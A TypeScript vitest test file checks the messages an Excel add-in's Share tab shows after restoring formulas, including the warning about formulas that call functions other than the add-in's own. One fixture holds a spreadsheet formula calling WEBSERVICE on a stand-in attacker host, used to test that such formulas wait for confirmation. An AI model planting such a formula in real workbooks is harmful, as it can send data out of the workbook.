// What the Share tab says after a restore: what came back, what waits for the user's confirmation, which sheets were
// kept; in an analyst's words, never a key, "undefined" or "[object Object]".

import { describe, expect, test } from "vitest";
import type { RestoreOutcome } from "../../src/taskpane/excel/restore";
import { CONFIRM_INTRO, restoreReport } from "../../src/taskpane/ui/share-view";

const outcome = (parts: Partial<RestoreOutcome>): RestoreOutcome => ({
  restored: 0,
  sheets: [],
  skipped: [],
  unconfirmed: [],
  sheetsKept: [],
  nothingToRestore: false,
  ...parts,
});
const STEAL = {
  sheet: "Sheet1",
  cell: "A1",
  address: "'Sheet1'!A1",
  formula: '=WEBSERVICE("https://attacker.example/")',
  why: "It calls WEBSERVICE.",
};

describe("restoreReport", () => {
  test.each<[Partial<RestoreOutcome>, string]>([
    [{ restored: 2, sheets: ["Sheet1"] }, "2 formulas on 1 sheet restored."],
    [
      { restored: 1, sheets: ["Sheet1"], unconfirmed: [STEAL] },
      "1 formula on 1 sheet restored. 1 formula calls functions other than DSR's: it is listed below and put back only if you choose Restore these too.",
    ],
    [
      { unconfirmed: [STEAL, { ...STEAL, cell: "A2", address: "'Sheet1'!A2" }] },
      "No formula was put back yet. 2 formulas call functions other than DSR's: they are listed below and put back only if you choose Restore these too.",
    ],
    [
      { restored: 1, sheets: ["Sheet1"], sheetsKept: ["Budget"] },
      "1 formula on 1 sheet restored. The sheet Budget was kept: the add-in removes only sheets it made that hold nothing else, so delete it yourself if you no longer need it.",
    ],
    [
      { restored: 3, sheets: ["Sheet1", "Notes"], sheetsKept: ["Sources", "DSR formulas"] },
      "3 formulas on 2 sheets restored. The sheets Sources and DSR formulas were kept: the add-in removes only sheets it made that hold nothing else, so delete them yourself if you no longer need them.",
    ],
    [{ nothingToRestore: true }, "Nothing to restore: no formula of this workbook was made static by the add-in."],
  ])("%o", (parts, text) => {
    const report = restoreReport(outcome(parts));
    expect(report).toBe(text);
    expect(report).not.toMatch(/undefined|\[object Object\]|NaN/);
  });

  test("the confirmation says what the formulas do and whom to trust", () => {
    expect(CONFIRM_INTRO).toBe("These formulas call functions other than DSR's. Restore them only if you trust who sent you this workbook:");
  });
});
